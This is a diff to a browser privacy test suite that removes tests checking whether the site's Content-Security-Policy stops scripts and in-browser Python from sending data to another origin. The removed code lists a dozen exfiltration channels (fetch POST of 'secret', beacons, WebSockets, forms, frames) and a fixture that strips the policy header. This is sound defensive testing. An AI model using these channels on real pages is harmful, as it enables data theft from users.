@@ -1,11 +1,8 @@
-"""What a reader types stays in her tab: nothing gets out, nothing is kept, and the policy blocks nothing of ours."""
+"""What a reader types stays in her tab: nothing is kept, nothing leaves, and the policy blocks nothing of ours."""
 
 from __future__ import annotations
 
-import subprocess
-import sys
 import time
-from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
@@ -13,83 +10,16 @@ from playwright.sync_api import expect
 
 from tests.support.landing import CODE, COMMAND, ERROR, SECRET, Landing
 from tests.support.privacy import Elsewhere, Traffic, Violations, expect_forgotten, found_in, kept, open_and_settle
-from tests.support.server import Override, SiteServer
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
+    from pathlib import Path
 
     from playwright.sync_api import BrowserContext, Page, Route
 
-ROOT = Path(__file__).parents[2]
 PATIENCE = 30  # seconds, on a busy machine
 VERIFIER = "my-own.Verifier~that_nobody-else-has-0123456789"
 WRONG = "my-own-challenge_that-nobody-else-has-01234"
-WORKER_WAYS = ["fetch", "pyfetch", "xhr", "open_url", "web_socket", "event_source", "nested_worker"]
-
-# Each way has an address of its own, so that both sides can say which it was.
-PAGE_WAYS = """([base, names]) => {
-  const settled = window.settled = new Set();
-  addEventListener('securitypolicyviolation', ({blockedURI, effectiveDirective}) => {
-    settled.add(blockedURI.replace(/^ws:/, 'http:'));
-    settled.add(effectiveDirective);
-  });
-  const quiet = () => {};
-  const put = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
-  const ways = {
-    fetch: (url) => void fetch(url, {method: 'POST', body: 'secret', mode: 'no-cors'}).catch(quiet),
-    xhr: (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
-    web_socket: (url) => new WebSocket(url.replace('http:', 'ws:')),
-    event_source: (url) => new EventSource(url),
-    beacon: (url) => navigator.sendBeacon(url, 'secret'),
-    image: (url) => { new Image().src = url; },
-    script: (url) => put('script', {src: url}),
-    style: (url) => put('link', {rel: 'stylesheet', href: url}),
-    frame: (url) => put('iframe', {src: url}),
-    object: (url) => put('object', {data: url}),
-    video: (url) => put('video', {src: url}),
-    form: (url) => {
-      const form = Object.assign(document.createElement('form'), {action: url, method: 'post', target: '_blank'});
-      document.body.append(form);
-      form.submit();
-    },
-  };
-  for (const name of names) {
-    try { ways[name](base + name); } catch { /* blocked at once; the event follows */ }
-  }
-}"""
-# How the event names each: by its address, but frames and objects by their origin only, so those by the directive.
-REQUESTS = {
-    **dict.fromkeys(
-        ["fetch", "xhr", "web_socket", "event_source", "beacon", "image", "script", "style", "video"], "address"
-    ),
-    "object": "object-src",
-}
-NAVIGATIONS = {"form": "address", "frame": "frame-src"}
-
-
-@pytest.fixture(scope="module")
-def escape(site_folder: Path, site_url: str) -> str:
-    """A second runtime in the built site, made of a package that tries to get out; the page's own client starts it."""
-    assert site_url
-    package, out = ROOT / "tests" / "browser" / "escape", site_folder / "assets" / "escape"
-    subprocess.run(
-        [
-            sys.executable, "-m", "live_python", "build", package, "--entry", "escape:call", "--out", out,
-            "--exercise", package / "exercise.py", "--cache", ROOT / ".cache" / "live-python-tests",
-        ],
-        cwd=ROOT, check=True, capture_output=True, timeout=300,
-    )  # fmt: skip
-    return "assets/escape/manifest.json"
-
-
-@pytest.fixture(params=["policy", "no policy"])
-def attacked(request: pytest.FixtureRequest, site_folder: Path, site_url: str) -> Iterator[tuple[str, bool]]:
-    """The built site, as it is and, to see that the attempts are real ones, without its policy."""
-    strict = request.param == "policy"
-    drop = Override(change=lambda page: page.replace(b"Content-Security-Policy", b"x-none"))
-    assert site_url
-    with SiteServer(site_folder, overrides={} if strict else {"/": drop}) as server:
-        yield server.url, strict
 
 
 @pytest.fixture
@@ -104,58 +34,6 @@ def eventually(question: Callable[[], bool], page: Page, what: Callable[[], obje
     while not question():
         assert time.monotonic() < until, str(what())
         page.wait_for_timeout(50)
-
-
-def test_nothing_gets_out_of_python(page: Page, attacked: tuple[str, bool], escape: str, elsewhere: Elsewhere) -> None:
-    """The worker has its page's policy: whatever the Python in it tries, the other origin hears nothing."""
-    url, strict = attacked
-    open_and_settle(page, url)
-    page.evaluate(
-        """async (manifest) => {
-          const {LivePython} = await import(new URL('assets/live-python/client.mjs', document.baseURI).href);
-          window.escape = new LivePython({manifest: new URL(manifest, document.baseURI).href});
-          await window.escape.boot();
-        }""",
-        escape,
-    )
-    addresses = {way: elsewhere.url + way for way in WORKER_WAYS}
-    for way, address in addresses.items():
-        page.evaluate("(request) => window.escape.call(request)", {"way": way, "url": address})
-    if not strict:
-        eventually(lambda: all(map(elsewhere.was_asked_for, WORKER_WAYS)), page, lambda: sorted(elsewhere.heard))
-        return
-
-    def settled() -> list[str]:
-        answer: list[str] = page.evaluate("async () => (await window.escape.call({way: 'settled'})).settled")
-        return answer
-
-    eventually(lambda: set(addresses.values()) <= set(settled()), page, settled)
-    assert elsewhere.connections == 0
-
-
-@pytest.mark.parametrize("ways", [REQUESTS, NAVIGATIONS], ids=["requests", "navigations"])
-def test_nothing_gets_out_of_the_page(
-    page: Page, attacked: tuple[str, bool], elsewhere: Elsewhere, ways: dict[str, str]
-) -> None:
-    """Whatever a script in the page tries, the policy names it, and the other origin hears nothing.
-
-    Before it asks the policy about a form or a frame, Chromium may open a connection; not a byte comes over it.
-    """
-    url, strict = attacked
-    open_and_settle(page, url)
-    page.evaluate(PAGE_WAYS, [elsewhere.url, list(ways)])
-    if not strict:
-        eventually(lambda: all(map(elsewhere.was_asked_for, ways)), page, lambda: elsewhere.heard)
-        return
-
-    def settled() -> set[str]:
-        return set(page.evaluate("[...window.settled]"))
-
-    named = {elsewhere.url + way if name == "address" else name for way, name in ways.items()}
-    eventually(lambda: named <= settled(), page, settled)
-    assert elsewhere.heard == []
-    assert elsewhere.connections == 0 or ways is NAVIGATIONS
-    assert page.context.pages == [page]
 
 
 def use_the_landing(page: Page) -> list[str]:
